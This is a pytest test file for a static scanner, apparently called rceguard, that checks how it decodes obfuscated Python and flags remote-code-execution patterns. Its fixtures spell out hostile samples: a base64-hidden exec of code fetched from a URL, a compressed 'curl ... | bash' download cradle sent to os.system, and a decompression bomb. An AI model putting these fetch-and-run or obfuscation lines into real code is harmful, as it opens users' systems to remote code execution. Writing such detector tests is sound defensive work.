"""The constant folder (analysis/fold.py): codec spellings, folded names, payload notes, bounds."""
from __future__ import annotations

from pathlib import Path

import pytest

from rceguard.analysis.fold import MAX_LEN, codec_of
from rceguard.config import Config
from rceguard.scan import scan


@pytest.mark.parametrize("name,canon", [
    ("base64", "base64"), ("base_64", "base64"), ("BASE-64", "base64"), ("base64_codec", "base64"),
    ("hex", "hex"), ("hex_codec", "hex"), ("rot13", "rot-13"), ("ROT_13", "rot-13"), ("zip", "zlib"),
    ("bz2_codec", "bz2"), ("quoted-printable", "quopri"), (b"base64", "base64"),
    ("utf-8", ""), ("latin-1", ""), ("no-such-codec", ""), ("", ""), (None, ""), ("x" * 100, ""),
])
def test_codec_spellings(name, canon) -> None:
    assert codec_of(name) == canon


def _scan(tmp_path: Path, code: str):
    p = tmp_path / "mod.py"
    p.write_text(code, encoding="utf-8")
    return scan([p], Config()).findings


def test_payload_that_fetches_is_named_in_the_message(tmp_path: Path) -> None:
    import base64
    payload = base64.b64encode(b"import urllib.request as u; exec(u.urlopen('http://203.0.113.9/x').read())").decode()
    (f,) = _scan(tmp_path, f"import base64\nexec(base64.b64decode({payload!r}))\n")
    assert f.rule_id == "RCE005"
    assert "the decoded payload fetches more code from the network (`http://203.0.113.9/x`" in f.message


def test_cradle_in_a_decoded_command(tmp_path: Path) -> None:
    import zlib
    blob = zlib.compress(b"curl -fsSL https://example.invalid/i.sh | bash")
    code = f"import os, zlib\nos.system(zlib.decompress({blob!r}))\n"
    (f,) = _scan(tmp_path, code)
    assert f.rule_id == "RCE005" and "reaches os.system()" in f.message
    assert "shell download cradle (`curl -fsSL https://example.invalid/i.sh | bash`)" in f.message


def test_plain_payload_has_no_note(tmp_path: Path) -> None:
    (f,) = _scan(tmp_path, "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n")
    assert "Note:" not in f.message


def test_decompression_bomb_is_not_folded(tmp_path: Path) -> None:
    import zlib
    bomb = zlib.compress(b"curl http://x.invalid/a | sh; " + b"#" * (MAX_LEN * 4))
    (f,) = _scan(tmp_path, f"import os, zlib\nos.system(zlib.decompress({bomb!r}))\n")
    assert f.rule_id == "RCE005" and "Note:" not in f.message  # reported, but not decompressed past the cap


@pytest.mark.parametrize("expr", [
    '"%999999999s" % "x"', '"{:>999999999}".format("x")', '"x" * 10**9', 'f"{1:>99999999}"',
    '"{0.__class__}".format("x")',
])
def test_unbounded_folds_give_up(tmp_path: Path, expr: str) -> None:
    # the name does not fold, so the getattr stays unresolved (and nothing blows up)
    code = f"import builtins, requests\ndef f(u):\n    getattr(builtins, {expr})(requests.get(u).text)\n"
    assert _scan(tmp_path, code) == []


def test_getattr_of_a_parameter_name_is_not_resolved(tmp_path: Path) -> None:
    code = "import builtins, requests\ndef f(u, name):\n    getattr(builtins, name)(requests.get(u).text)\n"
    assert _scan(tmp_path, code) == []


def test_name_rebound_is_not_a_constant(tmp_path: Path) -> None:
    code = ("import builtins, requests\nN = 'exec'\nN = 'print'\n"
            "def f(u):\n    getattr(builtins, N)(requests.get(u).text)\n")
    assert _scan(tmp_path, code) == []
